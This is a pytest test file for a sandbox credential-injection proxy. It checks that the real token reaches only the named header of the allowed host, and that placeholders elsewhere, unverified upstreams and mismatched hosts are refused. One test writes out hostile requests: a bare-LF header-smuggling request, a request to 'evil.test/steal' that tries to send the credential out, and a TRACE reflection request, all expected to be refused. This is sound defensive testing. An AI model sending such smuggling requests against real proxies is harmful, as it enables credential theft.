"""Credential injection in kiln-proxy (src/net/secrets.c, tls_intercept.c), on this host.  A
"guest" (this test's client) holds only a placeholder and trusts only its sandbox's CA, made by
`kiln-proxy --make-ca`; an HTTPS upstream with a certificate from its own test CA echoes the
headers it received.  The upstream must get the real credential, in the named header only;
the placeholder anywhere else (another header, the request line, plain HTTP, another host)
is refused and logged as an alert; hosts without secrets are not intercepted (the guest sees
the upstream's own certificate); an upstream whose certificate does not verify is refused."""
import http.server
import json
import random
import socket
import ssl
import subprocess
import threading
import time
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
PROXY = ROOT / "build" / "kiln-proxy"
PH = "KILN_PH_" + "".join(random.choice("0123456789abcdef") for _ in range(24))
REAL = "Bearer real-token-" + "".join(random.choice("xyz789") for _ in range(12))
POLICY = ("rewrite api.test 127.0.0.1\nrewrite other.test 127.0.0.1\n"
          "allow-cidr 127.0.0.0/8\n")


def openssl(*args):
    subprocess.run(["openssl", *map(str, args)], check=True, capture_output=True)


@pytest.fixture(scope="module")
def pki(tmp_path_factory):
    """An upstream CA and a certificate from it for api.test and other.test; the sandbox CA."""
    d = tmp_path_factory.mktemp("pki")
    openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj",
            "/CN=upstream test CA", "-keyout", d / "up-ca.key", "-out", d / "up-ca.pem")
    openssl("req", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=api.test", "-keyout",
            d / "up.key", "-out", d / "up.csr")
    (d / "ext").write_text("subjectAltName=DNS:api.test,DNS:other.test\n")
    openssl("x509", "-req", "-in", d / "up.csr", "-CA", d / "up-ca.pem", "-CAkey",
            d / "up-ca.key", "-CAcreateserial", "-days", "2", "-extfile", d / "ext",
            "-out", d / "up.pem")
    sandbox = d / "sandbox"
    sandbox.mkdir()
    r = subprocess.run([str(PROXY), "--make-ca", str(sandbox)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    assert (sandbox / "ca.key").stat().st_mode & 0o777 == 0o600
    return d


class EchoHeaders(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps({"path": self.path, "headers": dict(self.headers)}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


@pytest.fixture(scope="module")
def upstream(pki):
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), EchoHeaders)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(pki / "up.pem", pki / "up.key")
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    plain = http.server.ThreadingHTTPServer(("127.0.0.1", 0), EchoHeaders)
    threading.Thread(target=plain.serve_forever, daemon=True).start()
    yield srv.server_address[1], plain.server_address[1]
    srv.shutdown()
    plain.shutdown()


@pytest.fixture
def proxy(tmp_path, pki, upstream):
    procs = []

    def start(upstream_ca=True):
        (tmp_path / "policy").write_text(POLICY)
        (tmp_path / "secrets").write_text(f"# name placeholder header hosts value\n"
                                          f"secret api {PH} Authorization api.test {REAL}\n")
        http_port, tls_port = random.sample(range(20000, 60000), 2)
        cmd = [str(PROXY), "--http", f"127.0.0.1:{http_port}", "--tls",
               f"127.0.0.1:{tls_port}", "--policy", str(tmp_path / "policy"),
               "--secrets", str(tmp_path / "secrets"), "--ca", str(pki / "sandbox"),
               "--log", str(tmp_path / "log"), "--tls-upstream-port", str(upstream[0]),
               "--http-upstream-port", str(upstream[1])]
        if upstream_ca:
            cmd += ["--upstream-ca", str(pki / "up-ca.pem")]
        p = subprocess.Popen(cmd, stderr=subprocess.PIPE, text=True)
        assert "serving" in p.stderr.readline()
        procs.append(p)
        p.http, p.tls, p.logfile = http_port, tls_port, tmp_path / "log"
        return p

    yield start
    for p in procs:
        p.kill()
        p.wait()


def log_of(p, n):
    deadline = time.monotonic() + 30       # only waited out when the line is late
    while time.monotonic() < deadline:
        lines = p.logfile.read_text().splitlines() if p.logfile.exists() else []
        if len(lines) >= n:
            break
        time.sleep(0.05)
    return [json.loads(line) for line in lines]


def https_get(port, trust, sni, headers, path="/repos"):
    ctx = ssl.create_default_context(cafile=str(trust))
    with socket.create_connection(("127.0.0.1", port), timeout=10) as raw:
        with ctx.wrap_socket(raw, server_hostname=sni) as t:
            req = f"GET {path} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers) + \
                "\r\n"
            t.sendall(req.encode())
            data = b""
            while True:
                try:
                    chunk = t.recv(65536)
                except ssl.SSLZeroReturnError:
                    break
                if not chunk:
                    break
                data += chunk
    head, _, body = data.decode().partition("\r\n\r\n")
    return head.splitlines()[0], body


def test_the_upstream_gets_the_credential_and_the_guest_never_holds_it(proxy, pki):
    p = proxy()
    status, body = https_get(p.tls, pki / "sandbox" / "ca.pem", "api.test",
                             [("Host", "api.test"), ("Authorization", f"Bearer-ignored {PH}"),
                              ("Connection", "keep-alive")])
    assert " 200 " in status, body
    seen = json.loads(body)["headers"]
    assert seen["Authorization"] == f"Bearer-ignored {REAL}"
    assert seen["Connection"] == "close"           # one request per intercepted connection
    e = log_of(p, 1)[-1]
    assert (e["verdict"], e["name"], e["kind"]) == ("injected", "api.test", "tls")
    assert REAL not in p.logfile.read_text()        # never logged


def test_the_placeholder_anywhere_else_is_an_alert(proxy, pki):
    p = proxy()
    ca = pki / "sandbox" / "ca.pem"
    cases = [
        ([("Host", "api.test"), ("X-Echo", PH)], "/x"),            # another header
        ([("Host", "api.test")], f"/reflect?token={PH}"),           # the request line
    ]
    for headers, path in cases:
        status, body = https_get(p.tls, ca, "api.test", headers, path)
        assert " 403 " in status and "placeholder of secret api" in body, (status, body)
    # Plain HTTP to another host: visible, refused.
    with socket.create_connection(("127.0.0.1", p.http), timeout=10) as s:
        s.sendall(f"GET / HTTP/1.1\r\nHost: other.test\r\nX-Token: {PH}\r\n\r\n".encode())
        reply = s.recv(4096).decode()
    assert reply.startswith("HTTP/1.1 403") and "placeholder" in reply
    verdicts = [e["verdict"] for e in log_of(p, 3)]
    assert verdicts.count("alert") == 3


def raw_tls(port, trust, sni, request):
    """Send request bytes as they are; the proxy's answer."""
    ctx = ssl.create_default_context(cafile=str(trust))
    with socket.create_connection(("127.0.0.1", port), timeout=10) as raw:
        with ctx.wrap_socket(raw, server_hostname=sni) as t:
            t.sendall(request)
            data = b""
            while True:
                try:
                    chunk = t.recv(65536)
                except ssl.SSLZeroReturnError:
                    break
                if not chunk:
                    break
                data += chunk
    return data.decode(errors="replace")


def test_smuggling_the_credential_into_a_body_or_elsewhere_is_refused(proxy, pki):
    """From a review: a bare LF ended the headers for the upstream but not for us, so the
    rewritten credential landed in a body the API would echo; an https:// target, or TRACE,
    would send it elsewhere or back."""
    p = proxy()
    ca = pki / "sandbox" / "ca.pem"
    attempts = [
        (f"POST /store HTTP/1.1\r\nHost: api.test\r\nContent-Length: 40\r\n"
         f"Authorization: Bearer {PH}\n\nstolen={PH}\r\n\r\n" + "x" * 40).encode(),
        f"GET https://evil.test/steal HTTP/1.1\r\nHost: api.test\r\nAuthorization: {PH}\r\n"
        "\r\n".encode(),
        f"TRACE / HTTP/1.1\r\nHost: api.test\r\nAuthorization: {PH}\r\n\r\n".encode(),
    ]
    for req in attempts:
        reply = raw_tls(p.tls, ca, "api.test", req)
        assert " 403 " in reply.split("\r\n", 1)[0] and REAL not in reply, (req, reply)


def test_host_must_match_the_tls_server_name(proxy, pki):
    p = proxy()
    status, body = https_get(p.tls, pki / "sandbox" / "ca.pem", "api.test",
                             [("Host", "other.test"), ("Authorization", PH)])
    assert " 403 " in status and "differs" in body


def test_hosts_without_secrets_are_not_intercepted(proxy, pki):
    p = proxy()
    # The guest sees the upstream's own certificate: only the upstream CA verifies it.
    status, body = https_get(p.tls, pki / "up-ca.pem", "other.test", [("Host", "other.test")])
    assert " 200 " in status
    with pytest.raises(ssl.SSLCertVerificationError):
        https_get(p.tls, pki / "sandbox" / "ca.pem", "other.test", [("Host", "other.test")])


def test_an_upstream_that_does_not_verify_gets_no_credential(proxy, pki):
    p = proxy(upstream_ca=False)        # the system roots do not know the test CA
    status, body = https_get(p.tls, pki / "sandbox" / "ca.pem", "api.test",
                             [("Host", "api.test"), ("Authorization", PH)])
    assert " 502 " in status and "did not verify" in body
